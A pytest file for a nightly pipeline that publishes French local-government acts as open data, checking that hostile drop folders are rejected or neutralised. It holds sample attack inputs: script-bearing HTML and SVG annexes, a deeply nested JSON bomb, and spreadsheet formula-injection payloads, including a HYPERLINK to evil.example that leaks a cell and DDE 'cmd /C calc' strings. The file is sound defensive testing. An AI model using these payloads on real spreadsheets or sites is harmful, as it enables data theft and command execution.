"""Hostile act folders in a night: each is refused with its reason, every other act is published."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from samples.actes import minimal_pdf
from tests.transform.drop_acts import (
    NIGHT,
    SIREN,
    act_data,
    public_csv,
    quarantine,
    rejected_reasons,
    report,
    run_night,
    settings_for,
    store_root,
    write_act,
)


def _published_ids(settings) -> set[str]:
    actes = public_csv(settings, "actes/actes-2025.csv")
    return set(actes["SOURCE_ID"]) if len(actes) else set()


def test_a_metadata_nested_100k_deep_is_rejected_and_the_night_goes_on(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    drop = settings.drop_dir
    write_act(drop, "A000001", act_data("DEL_2025_001"))
    write_act(drop, "M000001", {}, files={}, metadata=b"[" * 100_000 + b"]" * 100_000)
    write_act(drop, "Z000001", act_data("DEL_2025_002"))

    run_night(settings)

    assert _published_ids(settings) == {"A000001", "Z000001"}
    reason = rejected_reasons(settings)["M000001"]
    assert "metadata.json" in reason and "nested deeper" in reason
    assert report(settings)["totals"]["rejected"] == 1
    kept = store_root(settings) / f"raw/actes/drop/date={NIGHT}/inconnu/M000001/metadata.json"
    assert kept.stat().st_size == 200_000


# Documents: only real PDFs, served as PDFs


HTML_WITH_SCRIPT = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def _documents(settings) -> dict[str, bytes]:
    root = store_root(settings) / "public" / "documents"
    return {p.name: p.read_bytes() for p in root.rglob("*") if p.is_file()} if root.exists() else {}


def test_only_real_pdfs_are_published_whatever_their_names(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    drop = settings.drop_dir
    annexes = {"annexe.html": HTML_WITH_SCRIPT, "plan.svg": b"<svg onload='alert(1)'/>",
               "outil.js": b"alert(1)", "setup.exe": b"MZ\x90\x00", "vide.pdf": b"",
               "faux.pdf": HTML_WITH_SCRIPT, "vrai.html": minimal_pdf(["a real PDF named .html"])}
    write_act(drop, "A000001", act_data("DEL_2025_001", autre_document_attache=list(annexes)),
              {"DEL_2025_001.pdf": minimal_pdf(["act"]), **annexes})
    write_act(drop, "B000001", act_data("DEL_2025_002", arrete=["acte.html"]), {"acte.html": HTML_WITH_SCRIPT})
    write_act(drop, "C000001", act_data("DEL_2025_003", arrete=["vide.pdf"]), {"vide.pdf": b""})
    write_act(drop, "D000001", act_data("DEL_2025_004"))

    run_night(settings)

    actes = public_csv(settings, "actes/actes-2025.csv").set_index("SOURCE_ID")
    assert set(actes.index) == {"A000001", "D000001"}
    reasons = rejected_reasons(settings)
    assert "'acte.html' named in arrete is not a PDF" in reasons["B000001"]
    assert "'vide.pdf' named in arrete is empty" in reasons["C000001"]
    # The act is published with its one real PDF annex; the others are left out, each reported.
    annex_urls = actes.loc["A000001", "ANNEXES_URL"].split()
    assert len(annex_urls) == 1 and annex_urls[0].endswith(".pdf")
    left_out = {item["file"]: item["reason"] for item in quarantine(settings)["left_out"]}
    assert set(left_out) == set(annexes) - {"vrai.html"}
    assert "is not a PDF" in left_out["annexe.html"] and "is empty" in left_out["vide.pdf"]
    assert {item["file"] for item in report(settings)["left_out"]} == set(left_out)
    documents = _documents(settings)
    assert documents and all(name.endswith(".pdf") and data.startswith(b"%PDF-") for name, data in documents.items())
    # raw keeps what it received
    raw = store_root(settings) / f"raw/actes/drop/date={NIGHT}/siren={SIREN}/A000001/annexe.html"
    assert raw.read_bytes() == HTML_WITH_SCRIPT


def test_a_document_over_the_size_limit_is_rejected_with_its_own_reason_and_kept_in_raw(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch, MAX_DOCUMENT_BYTES=str(1024 * 1024))
    drop = settings.drop_dir
    big = write_act(drop, "B000001", act_data("DEL_2025_002"), {}) / "DEL_2025_002.pdf"
    with big.open("wb") as handle:  # sparse: 3 MiB on disk costs nothing
        handle.write(b"%PDF-1.4\n")
        handle.truncate(3 * 1024 * 1024)
    write_act(drop, "A000001", act_data("DEL_2025_001", autre_document_attache=["annexe.pdf"]),
              {"DEL_2025_001.pdf": minimal_pdf(["act"]), "annexe.pdf": b"%PDF-1.4\n" + b"\0" * (2 * 1024 * 1024)})

    run_night(settings)

    assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"A000001"}
    reason = rejected_reasons(settings)["B000001"]
    assert "larger than the limit of 1048576 bytes" in reason and "missing" not in reason
    [left_out] = quarantine(settings)["left_out"]
    assert left_out["file"] == "annexe.pdf" and "larger than the limit" in left_out["reason"]
    raw = store_root(settings) / f"raw/actes/drop/date={NIGHT}/siren={SIREN}/B000001/DEL_2025_002.pdf"
    assert raw.stat().st_size == 3 * 1024 * 1024


# Dates


@pytest.mark.parametrize(
    "change, field",
    [
        ({"date_de_lacte": "9999-01-01"}, "date_de_lacte 9999-01-01"),
        ({"date_de_lacte": "0001-01-01"}, "date_de_lacte 0001-01-01"),
        ({"date_de_lacte": "1981-12-31"}, "date_de_lacte 1981-12-31"),
        ({"date_de_lacte": "2025-03-11"}, "date_de_lacte 2025-03-11"),  # the night + 8 days
        ({"date_tdt_postage": "9999-12-31"}, "date_tdt_postage 9999-12-31"),
    ],
)
def test_an_impossible_date_is_rejected_and_opens_no_year(tmp_path, monkeypatch, change, field):
    settings = settings_for(tmp_path, monkeypatch)
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001"))
    write_act(settings.drop_dir, "B000001", act_data("DEL_2025_002", **change))

    run_night(settings)

    reason = rejected_reasons(settings)["B000001"]
    assert f"{field} is implausible" in reason and "from 1982-03-02 to 2025-03-10" in reason
    public = store_root(settings) / "public"
    assert {p.name.split(".")[0] for p in public.rglob("*.csv")} == {"actes-2025", "actes-textes-2025", "deliberations-2025"}
    resources = {r["title"] for r in _dry_run_uploads(settings)}
    assert resources and all("2025" in title for title in resources)


def test_date_bounds_are_configurable(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch, ACT_DATE_EARLIEST="2000-01-01", ACT_DATE_MARGIN_DAYS="30")
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001", date_tdt_postage="2025-04-01"))
    write_act(settings.drop_dir, "B000001", act_data("DEL_2025_002", date_de_lacte="1999-12-31"))

    run_night(settings)

    assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"A000001"}
    assert "from 2000-01-01 to 2025-04-02" in rejected_reasons(settings)["B000001"]


def _dry_run_uploads(settings) -> list[dict]:
    root = store_root(settings) / "private" / "datagouv" / "dry-run"
    return [json.loads(p.read_text(encoding="utf-8"))["metadata"] for p in root.rglob("*.json")]


# Acts outside the préfecture flow


def _outside_flow(numero: str, kind: str, **changes) -> dict:
    """An act the body publishes without sending it to the préfecture: no acknowledgement, no postage."""
    return act_data(numero, acte_nature="7", nature_autre_detail=kind, date_tdt_postage=None, **changes)


def test_acts_outside_the_prefecture_flow_are_published_under_the_rules(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    drop = settings.drop_dir
    write_act(drop, "A000001", act_data("DEL_2025_001"))
    write_act(drop, "L000001", _outside_flow("LD_2025_001", "LD", objet="Liste des délibérations du 27 février 2025"))
    write_act(drop, "P000001", _outside_flow("PV_2025_001", "PV", objet="Procès-verbal de la séance du 27 février"))
    write_act(drop, "T000001", _outside_flow("AT_2025_001", "AT", objet="Arrêté de stationnement"))
    write_act(drop, "U000001", _outside_flow("AP_2025_001", "AP", publication_open_data="3"))
    write_act(drop, "X000001", _outside_flow("HP_2025_001", "", publication_open_data="3"))

    run_night(settings)

    assert rejected_reasons(settings) == {}
    actes = public_csv(settings, "actes/actes-2025.csv").set_index("SOURCE_ID")
    assert dict(actes["ACTE_NATURE_CODE"]) == {"A000001": "1", "L000001": "71", "P000001": "73",
                                               "U000001": "74", "X000001": "7"}
    assert actes.loc["P000001", "ACTE_NATURE_NOM"] == "Procès-verbaux de séance"
    assert actes.loc["P000001", "TRANSMISSION_DATE"] == "" and actes.loc["P000001", "PREF_ID"] == ""
    # The SCDL délibérations file keeps the délibérations only.
    assert list(public_csv(settings, "deliberations/deliberations-2025.csv")["DELIB_ID"]) == ["DEL_2025_001"]
    # A temporary arrêté may be an individual one: it waits for a decision.
    assert [a["source_id"] for a in report(settings)["to_decide"]] == ["T000001"]
    widget = json.loads((store_root(settings) / f"public/widgets/actes/{SIREN}/2025.json").read_text(encoding="utf-8"))
    natures = {a["id"]: (a["nature_code"], a["nature"]) for a in widget["actes"]}
    assert natures["L000001"] == ("71", "Listes des délibérations")
    assert natures["X000001"] == ("7", "Autres actes non transmis en préfecture")


# The agent's publication_open_data, read with the codes of the act's flow


def test_publication_open_data_codes_follow_the_flow_and_unknown_codes_wait(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch,
                            PUBLICATION_OPEN_DATA_CODES='{"deliberations-studio": {"1": "published", "2": "refused"}}')
    drop = settings.drop_dir
    write_act(drop, "G000001", act_data("DEL_2025_001", publication_open_data="1"), flow="super-ged-megalis")
    write_act(drop, "G000002", act_data("DEL_2025_002", publication_open_data="0"), flow="super-ged-megalis")
    write_act(drop, "S000001", act_data("DEL_2025_003", publication_open_data="1"), flow="deliberations-studio")
    write_act(drop, "S000002", act_data("DEL_2025_004", publication_open_data="3"), flow="deliberations-studio")
    write_act(drop, "P000001", act_data("DEL_2025_005", publication_open_data="3"))
    write_act(drop, "P000002", act_data("DEL_2025_006", publication_open_data="1"))
    write_act(drop, "P000003", act_data("DEL_2025_007", publication_open_data="0"))
    write_act(drop, "P000004", act_data("DEL_2025_008", publication_open_data="oui"))

    run_night(settings)

    assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"G000001", "S000001", "P000001"}
    assert {a["source_id"] for a in report(settings)["to_decide"]} == {"G000002", "S000002", "P000003", "P000004"}


# Spreadsheet formulas in text


FORMULAS = {
    "F000001": '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "F000002": "+cmd|' /C calc'!A0",
    "F000003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F000004": "-2+3",
}


def test_a_formula_in_an_objet_reaches_the_csv_as_text_and_everything_else_as_sent(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    for number, (id_d, objet) in enumerate(sorted(FORMULAS.items()), 1):
        write_act(settings.drop_dir, id_d, act_data(f"DEL_2025_{number:03d}", objet=objet))

    run_night(settings)

    for name, column, ids in (("actes/actes-2025.csv", "ACTE_OBJET", "SOURCE_ID"),
                              ("deliberations/deliberations-2025.csv", "DELIB_OBJET", None)):
        frame = public_csv(settings, name)
        assert sorted(frame[column]) == sorted("'" + objet for objet in FORMULAS.values()), name
        # dates and codes are untouched
        assert set(frame[column.replace("OBJET", "DATE")]) == {"2025-02-27"}
    parquet = pd.read_parquet(store_root(settings) / "public/actes/actes-2025.parquet")
    assert sorted(parquet["ACTE_OBJET"]) == sorted(FORMULAS.values())
    widget = json.loads((store_root(settings) / f"public/widgets/actes/{SIREN}/2025.json").read_text(encoding="utf-8"))
    assert sorted(a["objet"] for a in widget["actes"]) == sorted(FORMULAS.values())


# The drop folder after its night ran


def test_a_drop_folder_changed_after_its_night_keeps_both_versions_and_the_rerun_publishes_the_new_one(
        tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    drop = settings.drop_dir
    write_act(drop, "A000001", act_data("DEL_2025_001", objet="Objet d'abord"))
    write_act(drop, "B000001", act_data("DEL_2025_002"))
    run_night(settings)
    first = (store_root(settings) / f"raw/actes/drop/date={NIGHT}/siren={SIREN}/A000001/metadata.json").read_bytes()

    # the exporter rewrites the act's folder: a corrected objet and an annex more
    write_act(drop, "A000001", act_data("DEL_2025_001", objet="Objet corrigé", autre_document_attache=["annexe.pdf"]))
    summary = run_night(settings)
    again = run_night(settings)

    actes = public_csv(settings, "actes/actes-2025.csv").set_index("SOURCE_ID")
    assert actes.loc["A000001", "ACTE_OBJET"] == "Objet corrigé" and actes.loc["A000001", "ANNEXES_URL"]
    assert set(actes.index) == {"A000001", "B000001"}
    raw = store_root(settings) / f"raw/actes/drop/date={NIGHT}"
    assert (raw / f"siren={SIREN}/A000001/metadata.json").read_bytes() == first
    assert b"Objet corrig" in (raw / f"rev=2/siren={SIREN}/A000001/metadata.json").read_bytes()
    assert not (raw / "rev=3").exists()  # a rerun on the same folder writes nothing new
    [revised] = report(settings)["raw_revisions"]
    assert revised["revision"] == 2 and revised["folder"].endswith("/A000001/")
    for result in (summary, again):
        assert any("A000001" in line and "revision 2 is the one read" in line for line in result["summary"])


def test_a_night_without_its_drop_folder_says_so_and_unpublishes_nothing(tmp_path, monkeypatch):
    settings = settings_for(tmp_path, monkeypatch)
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001"))
    run_night(settings)
    before = public_csv(settings, "actes/actes-2025.csv")

    summary = run_night(settings, "2025-03-04")

    missing = str(settings.drop_dir / "2025-03-04")
    assert any(missing in line and "does not exist" in line for line in summary["summary"])
    assert any(missing in warning for warning in report(settings, "2025-03-04")["warnings"])
    assert public_csv(settings, "actes/actes-2025.csv").equals(before)


def test_a_missing_drop_folder_fails_the_run_in_one_line_naming_it(tmp_path, monkeypatch, capsys):
    from digor.cli import main as digor
    from tests.ops.test_cli_errors import one_error_line

    settings = settings_for(tmp_path, monkeypatch)
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001"))
    run_night(settings)
    before = public_csv(settings, "actes/actes-2025.csv")
    monkeypatch.setenv("DIGOR_DROP_DIR", str(tmp_path / "not-mounted"))

    assert digor(["run", "actes", "--date", NIGHT]) == 1

    line = one_error_line(capsys.readouterr().err)
    assert str(tmp_path / "not-mounted") in line and "DIGOR_DROP_DIR" in line
    assert public_csv(settings, "actes/actes-2025.csv").equals(before)


@pytest.mark.parametrize("value", [20250227, {"date": "2025-02-27"}, ["2025-02-27"], True])
def test_a_form_value_of_the_wrong_json_type_is_rejected_and_the_night_goes_on(tmp_path, monkeypatch, value):
    settings = settings_for(tmp_path, monkeypatch)
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001"))
    write_act(settings.drop_dir, "B000001", act_data("DEL_2025_002", date_de_lacte=value))

    run_night(settings)

    assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"A000001"}
    assert "date_de_lacte" in rejected_reasons(settings)["B000001"]


def test_an_act_that_breaks_a_reader_is_rejected_with_the_error_and_the_night_goes_on(tmp_path, monkeypatch):
    import transform.actes

    def reader_bug(files, *args, **kwargs):
        if b"DEL_2025_002" in files["metadata.json"]:
            raise TypeError("unexpected shape")
        return real(files, *args, **kwargs)

    real = transform.actes._load_metadata
    monkeypatch.setattr(transform.actes, "_load_metadata", reader_bug)
    settings = settings_for(tmp_path, monkeypatch)
    write_act(settings.drop_dir, "A000001", act_data("DEL_2025_001"))
    write_act(settings.drop_dir, "B000001", act_data("DEL_2025_002"))

    run_night(settings)

    assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"A000001"}
    assert "could not be read (TypeError: unexpected shape)" in rejected_reasons(settings)["B000001"]
